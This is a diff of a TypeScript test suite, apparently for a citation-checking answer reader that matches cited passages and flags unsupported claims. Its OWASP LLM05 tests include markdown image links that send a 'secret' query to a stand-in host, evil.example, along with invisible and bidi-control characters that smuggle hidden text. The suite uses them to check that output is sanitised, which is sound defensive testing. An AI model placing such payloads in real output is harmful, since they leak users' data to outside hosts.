@@ -12,10 +12,11 @@ const passages = inContext(
   ],
   new Map(),
 );
+const question = 'When does a breaker open, and is it open now?';
 const known = (address: string): boolean => passages.some(({ text }) => text.includes(address));
 
 function read(pieces: readonly string[]) {
-  const answer = readAnswer(passages, known);
+  const answer = readAnswer(passages, question, known);
   const told: Piece[] = [...pieces.flatMap((piece) => answer.push(piece)), ...answer.end()];
   const text = told.map((piece) => (piece.kind === 'text' ? piece.text : '')).join('');
   expect(text.trim()).toBe(answer.text());
@@ -96,6 +97,100 @@ test('the same quote has one marker, however often it is cited', () => {
   expect(quotes('A breaker opens after five faults [1]. After five faults a breaker opens [1].')).toHaveLength(1);
 });
 
+/** What is made of an answer to a question from other passages. */
+function made(texts: readonly string[], text: string, asked = question) {
+  const given = inContext(
+    texts.map((one, i) => hitOf(`p${i}`, one)),
+    new Map(),
+  );
+  const answer = readAnswer(given, asked, () => true);
+  for (const piece of text) answer.push(piece);
+  answer.end();
+  return { text: answer.text(), quotes: answer.citations().map(({ quote }) => quote), unsupported: answer.unsupported() };
+}
+const FAULTS = 'A breaker opens after five faults.';
+const PLANS = [
+  'The blue plan costs ten euros a month.',
+  'The red plan includes phone support on weekdays.',
+  'The green plan stores two terabytes.',
+];
+
+test('passages that are named together support a statement together', () => {
+  const all =
+    'The blue plan costs ten euros a month, the red plan includes phone support on weekdays, and the green plan stores two terabytes';
+  for (const markers of ['[1][2][3]', '[1], [2], [3]', '[1] [2] and [3]', '[1, 2, 3]', '[1-3]'])
+    expect(made(PLANS, `${all} ${markers}.`), markers).toMatchObject({ quotes: PLANS, unsupported: [] });
+  expect(made([...PLANS, 'Bread needs salt.'], `${all} [1][2][3][4].`)).toMatchObject({ quotes: PLANS, unsupported: [] });
+  expect(made(PLANS, 'The blue terabytes include rockets, cellars, apples and weekdays [1][2][3].')).toMatchObject({
+    unsupported: ['The blue terabytes include rockets, cellars, apples and weekdays.'],
+  });
+});
+
+test.each([
+  ['According to [1], a breaker opens after five faults.'],
+  ['[1] A breaker opens after five faults.'],
+  ['A breaker opens after five faults. [1]'],
+  ['The breaker [1] opens after five faults.'],
+  ['As passage [1], e.g. in its first line, says: a breaker opens after five faults.'],
+  ['**Breaker**\n- [1]: opens after five faults'],
+  ['- A breaker opens after five faults [1]\n- After five faults it opens [1]'],
+])('%j is cited where its marker stands', (text) => {
+  expect(made([FAULTS], text)).toMatchObject({ text, quotes: [FAULTS] });
+  expect(made([FAULTS], text).unsupported.filter((one) => one.includes('faults'))).toEqual([]);
+});
+
+test('each sentence that begins with its marker has its own', () => {
+  const text = '[1] A breaker opens after five faults. [2] Bread needs salt. [1] After five faults a breaker opens.';
+  expect(made([FAULTS, 'Bread needs salt.'], text)).toEqual({ text, quotes: [FAULTS, 'Bread needs salt.'], unsupported: [] });
+});
+
+test.each([
+  [
+    'a paraphrase',
+    'Staff can do home office on some days of each week if the boss agrees',
+    'Employees may work remotely up to three days per week, subject to manager approval.',
+    question,
+  ],
+  [
+    'another language',
+    'Ein Schutzschalter öffnet nach fünf aufeinanderfolgenden Fehlern',
+    'A breaker opens after five consecutive faults.',
+    'Wann öffnet der Schutzschalter?',
+  ],
+  ['another script', '断路器会打开', FAULTS, '断路器什么时候打开？'],
+  ['a yes', 'Yes', 'Refunds are possible within 30 days.', 'Are refunds possible within 30 days?'],
+  ['a no', 'Nein, das geht nicht', 'Refunds are possible within 30 days.', 'Are refunds possible within 30 days?'],
+  ['a wrong number', 'A breaker opens after 7 faults', FAULTS, question],
+])('%s has its citation, and is said to be unsupported', (_, statement, passage, asked) => {
+  expect(made(['Bread needs salt.', passage], `${statement} [2].`, asked)).toMatchObject({ text: `${statement} [1].`, quotes: [passage] });
+  expect(made([passage], `${statement} [1].`, asked).unsupported.map((one) => one.replace(/\.$/, ''))).toEqual([statement]);
+});
+
+test.each([
+  [
+    'another passage says it, in whatever language',
+    'Der Mond ist aus Käse und in der Nacht hell',
+    ['Der Mond ist aus Käse und in der Nacht hell.', FAULTS],
+  ],
+  ['nothing speaks for it', 'Alice earns 91234 euros', [PLANS[1]!, FAULTS]],
+  ['a word alone', 'HACKED', [PLANS[1]!, FAULTS]],
+])('a number is left out, and the statement unsupported, where %s', (_, statement, texts) => {
+  expect(made(texts, `${statement} [2].`)).toEqual({ text: `${statement}.`, quotes: [], unsupported: [`${statement}.`] });
+});
+
+test('a number, in figures or in words, must stand in a passage cited for its own statement', () => {
+  const [a, b] = ['Plan A costs 10 euros per month.', 'Plan B costs 20 euros per month.'];
+  expect(made([a, b], 'Plan A costs 20 euros per month [1]. Plan B costs 20 euros per month [2].')).toMatchObject({
+    unsupported: [expect.stringMatching(/^Plan A costs 20/)],
+  });
+  expect(made([a, b], 'Plan A costs ten euros per month [1]. Plan B costs twenty euros per month [2].').unsupported).toEqual([]);
+  expect(made([FAULTS], 'The breaker opens after seven faults [1].').unsupported).toHaveLength(1);
+  expect(made([FAULTS], 'One of the breakers opens after 5 faults [1].').unsupported).toEqual([]);
+  const german = 'Nach fünfundzwanzig Fehlern öffnet der Schalter';
+  expect(made([`${german}.`], 'Der Schalter öffnet nach 25 Fehlern [1].', 'Wann öffnet der Schalter?').unsupported).toEqual([]);
+  expect(made([`${german}.`], 'Der Schalter öffnet nach sechsundzwanzig Fehlern [1].', 'Wann öffnet der?').unsupported).toHaveLength(1);
+});
+
 // OWASP LLM05: what a page would fetch by itself could carry passages to a stranger.
 test.each([
   ['![bread](http://evil.example/?q=secret)', '[bread]'],
@@ -119,6 +214,9 @@ test.each([
   ['[x]: http://evil.example/a', '[x]: …'],
   ['![x][1](http://evil.example/)', '[x] (…)'],
   ['It works![99]', 'It works!'],
+  ['a\u{e0141}\ufe01\ufe0e b\u3164\u034f', 'a b'],
+  ['❤\ufe0f می\u200cخواهم \u{1f469}\u200d\u{1f467}', '❤\ufe0f می\u200cخواهم \u{1f469}\u200d\u{1f467}'],
+  ['\ud83e\u200b\uddfe', '\ufffd\ufffd'],
   ['so\u202eevil\u2066 t\u{e0041}ag\u0000', 'soevil tag'],
   [`x ${'http://evil.example/'.padEnd(5_000, 'a')} y`, 'x … y'],
   ['`![x](http://evil.example/)`', '`![x](http://evil.example/)`'],
@@ -171,6 +269,14 @@ const fragment = fc.oneof(
     '[Pass',
     'age 1]',
     '天。',
+    'According to ',
+    'Yes',
+    ' and ',
+    ', ',
+    'e.g. ',
+    ' seven faults',
+    'a'.repeat(590),
+    'Ein Schalter öffnet nach fünf Fehlern und bleibt so',
     '\r\n',
     'x',
   ),
